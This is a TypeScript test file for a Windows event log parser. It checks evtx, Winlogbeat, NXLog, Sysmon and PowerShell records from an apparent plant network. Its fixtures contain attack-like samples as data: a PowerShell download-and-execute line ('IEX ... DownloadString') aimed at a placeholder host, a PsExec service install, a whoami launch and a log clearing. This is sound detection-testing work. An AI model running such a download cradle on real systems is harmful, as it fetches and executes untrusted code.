// Windows event records in the shapes evtx dumps, Winlogbeat and NXLog write. No third-party sample set
// with a usable licence exists in ../shared/data, so these records are written here, field by field
// after the documented layouts.
import { describe, expect, it } from 'vitest';
import { parseEvents } from './index.js';

const lines = (...records: unknown[]) => records.map((record) => JSON.stringify(record)).join('\n');

describe('Windows event shapes', () => {
  it('reads an evtx dump (System with #attributes, EventData as a Data list): 4624 logon', () => {
    const text = lines({
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing', Guid: '{54849625-5478-4994-a5ba-3e3b0328c30d}' } },
          EventID: 4624,
          Level: 0,
          TimeCreated: { '#attributes': { SystemTime: '2024-03-01T08:15:30.1234567Z' } },
          EventRecordID: 91011,
          Channel: 'Security',
          Computer: 'EWS-01.plant.local',
        },
        EventData: {
          Data: [
            { '#attributes': { Name: 'TargetUserName' }, '#text': 'operator1' },
            { '#attributes': { Name: 'TargetDomainName' }, '#text': 'PLANT' },
            { '#attributes': { Name: 'LogonType' }, '#text': '10' },
            { '#attributes': { Name: 'IpAddress' }, '#text': '10.20.1.15' },
            { '#attributes': { Name: 'IpPort' }, '#text': '51234' },
            { '#attributes': { Name: 'AuthenticationPackageName' }, '#text': 'Negotiate' },
          ],
        },
      },
    });
    const result = parseEvents('winevent', text, { file: 'security.jsonl' });
    expect(result.issues).toEqual([]);
    const event = result.events[0]!;
    expect(event).toMatchObject({ time: '2024-03-01T08:15:30.123Z', kind: 'host', severity: 'info', message: 'Logon of PLANT\\operator1 (remote interactive) from 10.20.1.15' });
    expect(event.fields.user).toEqual({ name: 'operator1', domain: 'PLANT' });
    expect(event.fields.source).toEqual({ ip: '10.20.1.15', port: 51234 });
    expect(event.fields.host).toEqual({ name: 'EWS-01.plant.local' });
    expect(event.fields.event).toMatchObject({ code: '4624', provider: 'Microsoft-Windows-Security-Auditing', action: 'logged-in', outcome: 'success', category: ['authentication'] });
    expect(event.fields.labels).toEqual({ LogonType: '10', AuthenticationPackageName: 'Negotiate', 'winlog.record_id': '91011' });
    expect(event.origin).toEqual({ file: 'security.jsonl', line: 1, stream: 'Security' });
  });

  it('reads Winlogbeat: 4625 failed logon and 4688 process creation with hex pid', () => {
    const text = lines(
      {
        '@timestamp': '2024-03-01T08:16:00.000Z',
        event: { code: '4625' },
        host: { name: 'hmi-02' },
        winlog: { channel: 'Security', event_id: '4625', provider_name: 'Microsoft-Windows-Security-Auditing', computer_name: 'HMI-02', event_data: { TargetUserName: 'admin', TargetDomainName: 'HMI-02', LogonType: '3', IpAddress: '10.9.9.9', Status: '0xc000006d' } },
      },
      {
        '@timestamp': '2024-03-01T08:17:00.000Z',
        winlog: {
          channel: 'Security',
          event_id: 4688,
          provider_name: 'Microsoft-Windows-Security-Auditing',
          computer_name: 'EWS-01',
          event_data: { NewProcessName: 'C:\\Windows\\System32\\cmd.exe', NewProcessId: '0x1a4', CommandLine: 'cmd.exe /c whoami', ParentProcessName: 'C:\\Program Files\\Siemens\\Step7\\s7tgtopx.exe', SubjectUserName: 'eng', SubjectDomainName: 'PLANT' },
        },
      },
    );
    const [failed, process] = parseEvents('winevent', text).events;
    expect(failed).toMatchObject({ severity: 'low', message: 'Failed logon of HMI-02\\admin (network) from 10.9.9.9' });
    expect(failed!.fields.event).toMatchObject({ outcome: 'failure', action: 'logon-failed', code: '4625' });
    expect(failed!.fields.labels).toMatchObject({ Status: '0xc000006d' });
    expect(process!.fields.process).toEqual({ executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', command_line: 'cmd.exe /c whoami', pid: 420, parent: { name: 's7tgtopx.exe' } });
    expect(process!.fields.user).toEqual({ name: 'eng', domain: 'PLANT' });
    expect(process!.message).toBe('Process cmd.exe /c whoami started by PLANT\\eng (parent s7tgtopx.exe)');
  });

  it('reads NXLog (data at the top level, EventTime without zone): 7045 service install and 1102 log cleared', () => {
    const text = lines(
      { EventTime: '2024-03-01 09:00:00', Hostname: 'EWS-01', EventID: 7045, SourceName: 'Service Control Manager', Channel: 'System', Severity: 'INFO', ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' },
      { EventTime: '2024-03-01 09:05:00', Hostname: 'EWS-01', EventID: 1102, SourceName: 'Microsoft-Windows-Eventlog', Channel: 'Security', SubjectUserName: 'eng', SubjectDomainName: 'PLANT' },
    );
    const [service, cleared] = parseEvents('winevent', text).events;
    expect(service).toMatchObject({ time: '2024-03-01T09:00:00.000Z', severity: 'medium', message: 'Service PSEXESVC installed: %SystemRoot%\\PSEXESVC.exe' });
    expect(service!.fields.file).toEqual({ path: '%SystemRoot%\\PSEXESVC.exe', name: 'PSEXESVC.exe' });
    expect(service!.fields.labels).toMatchObject({ ServiceName: 'PSEXESVC', StartType: 'demand start' });
    expect(service!.fields.event?.provider).toBe('Service Control Manager');
    expect(cleared).toMatchObject({ severity: 'high', message: 'Event log cleared by PLANT\\eng' });
  });

  it('reads flat exports: Sysmon 1 and 3, PowerShell 4104, and a Windows warning level', () => {
    const sysmon = 'Microsoft-Windows-Sysmon';
    const text = lines(
      { TimeCreated: '2024-03-01T10:00:00Z', EventID: 1, Provider: sysmon, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'EWS-01', EventData: { Image: 'C:\\Tools\\plcscan.exe', CommandLine: 'plcscan.exe 10.20.1.0/24', ProcessId: '5120', ParentImage: 'C:\\Windows\\explorer.exe', User: 'PLANT\\eng', Hashes: 'MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AB'.padEnd(50, 'C') } },
      { TimeCreated: '2024-03-01T10:00:05Z', EventID: 3, Provider: sysmon, Computer: 'EWS-01', EventData: { Image: 'C:\\Tools\\plcscan.exe', ProcessId: '5120', Protocol: 'tcp', SourceIp: '10.20.1.15', SourcePort: '50001', DestinationIp: '10.20.1.10', DestinationPort: '102', User: 'PLANT\\eng' } },
      { TimeCreated: '/Date(1709287200000)/', Id: 4104, ProviderName: 'Microsoft-Windows-PowerShell', LogName: 'Microsoft-Windows-PowerShell/Operational', Level: 3, MachineName: 'EWS-01', EventData: { ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', ScriptBlockId: 'abc' } },
      { TimeCreated: '2024-03-01T10:00:07Z', EventID: 9999, Provider: 'Some-App', Level: 2, Message: 'Something failed\r\nsecond line', EventData: { Code: '7' } },
    );
    const result = parseEvents('winevent', text);
    expect(result.issues).toEqual([]);
    const [created, connected, script, other] = result.events;
    expect(created!.fields.process).toEqual({ executable: 'C:\\Tools\\plcscan.exe', name: 'plcscan.exe', command_line: 'plcscan.exe 10.20.1.0/24', pid: 5120, parent: { name: 'explorer.exe' } });
    expect(created!.fields.user).toEqual({ domain: 'PLANT', name: 'eng' });
    expect(created!.fields.file?.hash?.md5).toBe('0123456789abcdef0123456789abcdef');
    expect(connected!.fields.source).toEqual({ ip: '10.20.1.15', port: 50001 });
    expect(connected!.fields.destination).toEqual({ ip: '10.20.1.10', port: 102 });
    expect(connected!.fields.network).toEqual({ transport: 'tcp' });
    expect(connected!.message).toBe('plcscan.exe connected 10.20.1.15:50001 → 10.20.1.10:102 tcp');
    expect(script!.time).toBe('2024-03-01T10:00:00.000Z');
    expect(script!.severity).toBe('medium');
    expect(script!.fields.process?.command_line).toContain('DownloadString');
    expect(script!.origin?.stream).toBe('Microsoft-Windows-PowerShell/Operational');
    expect(other).toMatchObject({ severity: 'high', message: 'Something failed' });
    expect(other!.fields.labels).toEqual({ Code: '7' });
  });

  it('reports records without EventID or time, and bad JSON, with their lines', () => {
    const text = ['{"Channel":"Security","TimeCreated":"2024-03-01T10:00:00Z"}', '{"EventID":4624}', '{"EventID":4624,"TimeCreated":"soon"}', 'not json', '{"EventID":4634,"TimeCreated":"2024-03-01T10:00:00Z","EventData":{"TargetUserName":"a"}}'].join('\n');
    const result = parseEvents('winevent', text);
    expect(result.events).toHaveLength(1);
    expect(result.events[0]!.message).toBe('Logoff of a');
    expect(result.issues.map((issue) => [issue.line, issue.path])).toEqual([
      [1, 'EventID'],
      [2, 'TimeCreated'],
      [3, 'TimeCreated'],
      [4, ''],
    ]);
  });
});
